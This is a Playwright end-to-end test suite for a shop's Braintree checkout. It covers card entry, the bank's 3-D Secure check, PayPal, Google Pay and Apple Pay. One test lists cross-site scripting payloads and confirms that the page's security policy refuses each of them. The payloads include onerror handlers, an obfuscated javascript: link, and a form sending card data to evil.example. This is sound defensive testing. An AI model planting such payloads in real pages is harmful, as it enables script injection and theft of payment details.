import { mkdirSync, openSync } from 'node:fs'
import { chmod, mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, type Page, test } from '@playwright/test'
import { braintreeFront } from '../apps/api/providers/card/testing/braintree-front.ts'
import { root } from '../scripts/root.mjs'
import { freePort } from '../scripts/run/free-port.mjs'
import { startProduct } from '../scripts/run/product.mjs'
import { braintreeOnTheWeb, publishedToken } from './braintree/stand-in.ts'
import { long } from './long.ts'
import { cards } from './paying/cards.ts'
import { makePayment, openPayment, pay, sayAddressIsHome } from './paying/open-payment.ts'
import { settings } from './product.ts'

/** A product of its own: in the other tests, payments go to the sandbox. */
let sandboxUrl: string
let front: Awaited<ReturnType<typeof braintreeFront>>
let stop: () => Promise<void>
const shared = process.env['E2E_PORT']

test.describe.configure({ mode: 'serial' })
test.beforeAll(async () => {
  const sandboxPort = await freePort()
  sandboxUrl = `http://127.0.0.1:${sandboxPort}`
  front = await braintreeFront(sandboxUrl, publishedToken)
  const dataDir = await mkdtemp(join(tmpdir(), 'milepost-e2e-'))
  await chmod(dataDir, 0o755)
  mkdirSync(join(root, '.cache', 'e2e'), { recursive: true })
  const env = {
    ...process.env,
    ...settings,
    SANDBOX_PORT: String(sandboxPort),
    DATA_DIR: dataDir,
    CARD_PROVIDER: 'braintree',
    BRAINTREE_URL: front.url,
    BRAINTREE_ENVIRONMENT: 'sandbox',
    BRAINTREE_MERCHANT_ID: 'm',
    BRAINTREE_PUBLIC_KEY: 'public',
    BRAINTREE_PRIVATE_KEY: 'sk_sandbox_milepost',
    BRAINTREE_MERCHANT_ACCOUNT_ID: 'milepost-gbp, carrot=carrot-gbp',
    GOOGLE_PAY_MERCHANT_ID: 'BCR2DN',
  }
  const logTo = openSync(join(root, '.cache', 'e2e', 'braintree.log'), 'w')
  const outcome = await startProduct({ root, env, logTo })
  if (outcome.kind !== 'ready') throw new Error('The product did not start; see .cache/e2e/braintree.log')
  process.env['E2E_PORT'] = String(outcome.product.port)
  stop = async () => {
    process.env['E2E_PORT'] = shared
    await outcome.product.stop()
    await front.close()
    await rm(dataDir, { recursive: true, force: true })
  }
})
test.afterAll(() => stop?.())

/** The card page with Braintree's own client; records what the browser's policies blocked. */
async function open(page: Page) {
  const stopped: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy|TrustedScript|TrustedHTML/.test(message.text())) stopped.push(message.text())
  })
  const asked = await braintreeOnTheWeb(page.context(), sandboxUrl)
  await openPayment(page, 'carrot_pc')
  await sayAddressIsHome(page)
  return { asked, stopped }
}

async function typeCard(page: Page, number: string): Promise<void> {
  const box = (name: string) =>
    page.frameLocator(`iframe[name="braintree-hosted-field-${name}"]`).locator('input')
  await box('number').fill(number)
  await box('expirationDate').fill('12/39')
  await box('cvv').fill('123')
}

const sale = () => {
  const sold = front.requests.findLast(
    ({ method, path }) => method === 'POST' && path.endsWith('/transactions'),
  )
  return JSON.parse(sold?.body ?? '{}').transaction
}
const expectPurchase = (page: Page) => expect(page).toHaveURL(/\/thank-you$/)

test(
  'a card typed into Braintree’s own fields pays, after a check with its bank [CRD-01] [CRD-19] [CRD-20] [D-265] [T27]',
  long,
  async ({ page }) => {
    test.slow()
    const bodies: string[] = []
    page.on('request', (request) => {
      if (new URL(request.url()).hostname.endsWith('.localhost')) bodies.push(request.postData() ?? '')
    })
    const { asked, stopped } = await open(page)
    await expect(makePayment(page)).toHaveAttribute('aria-disabled', 'true')
    expect(await page.locator('input[autocomplete^="cc-"]').count()).toBe(0)
    await typeCard(page, cards.visa)
    await pay(page)
    await expectPurchase(page)
    expect(asked.lookups.at(-1)).toMatchObject({ challengeRequested: true, bin: cards.visa.slice(0, 6) })
    expect(sale()).toMatchObject({
      merchant_account_id: 'carrot-gbp',
      descriptor: { name: 'CRT*CARROT' },
      transaction_source: 'recurring_first',
      options: { three_d_secure: { required: true } },
    })
    expect(bodies.join('\n')).not.toContain(cards.visa)
    expect(stopped).toEqual([])
  },
)

test('a bank’s question is shown over the page, and no injected script can run there [F11] [ERR-23] [T16] [T27]', async ({
  page,
}) => {
  test.slow()
  const { stopped } = await open(page)
  const hostile = [
    '<svg/onload=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<meta http-equiv=refresh content=0;url=https://evil.example>',
    '<form action=https://evil.example><input name=card></form>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ]
  const written = await page.evaluate(
    (texts) =>
      texts.map((html) => {
        try {
          document.createElement('div').innerHTML = html
          return 'written'
        } catch {
          return 'refused'
        }
      }),
    [...hostile, '<div class="box"><span>Pay</span></div>'],
  )
  expect(written).toEqual([...hostile.map(() => 'refused'), 'written'])
  // Each is a violation of the page's policy, which browsers report.
  await expect.poll(() => stopped.length).toBeGreaterThan(0)
  stopped.length = 0
  await typeCard(page, cards.challenge)
  await pay(page)
  await page.frameLocator('iframe[title="Your bank"]').getByRole('button', { name: 'Approve' }).click()
  await expectPurchase(page)
  expect(stopped).toEqual([])
})

test(
  'PayPal’s window stays open and replies through its opener [CRD-23] [D-203] [CRD-10]',
  long,
  async ({ page }) => {
    test.slow()
    const { asked, stopped } = await open(page)
    const [popup] = await Promise.all([
      page.waitForEvent('popup'),
      page.getByRole('button', { name: 'PayPal' }).click(),
    ])
    await popup.getByRole('button', { name: 'Pay with my account' }).click()
    await expectPurchase(page)
    expect(asked.payPal.at(-1)).toMatchObject({ merchantAccountId: 'carrot-gbp', currencyIsoCode: 'GBP' })
    expect(sale().options).not.toHaveProperty('three_d_secure')
    expect(stopped).toEqual([])
  },
)

test('Google Pay pays with our merchant id [CRD-23] [CRD-15]', long, async ({ page }) => {
  test.slow()
  const { asked, stopped } = await open(page)
  await page.getByRole('button', { name: 'Google Pay' }).click()
  await expectPurchase(page)
  expect(asked.google.at(-1)).toMatchObject({
    merchantInfo: { merchantId: 'BCR2DN' },
    allowedPaymentMethods: [{ type: 'CARD', parameters: { allowedCardNetworks: ['VISA', 'MASTERCARD'] } }],
    transactionInfo: { currencyCode: 'GBP', countryCode: 'GB' },
  })
  expect(sale().options).not.toHaveProperty('three_d_secure')
  expect(stopped).toEqual([])
})

test('Apple Pay pays on a device that has it [CRD-23]', long, async ({ page }) => {
  test.slow()
  const { asked } = await open(page)
  await page.getByRole('button', { name: 'Pay with Apple Pay' }).click()
  await expectPurchase(page)
  expect(asked.apple.at(-1)).toMatchObject({
    merchantIdentifier: 'merchant.milepost',
    domainName: 'carrot-pc.localhost',
  })
  expect(sale().options).not.toHaveProperty('three_d_secure')
})
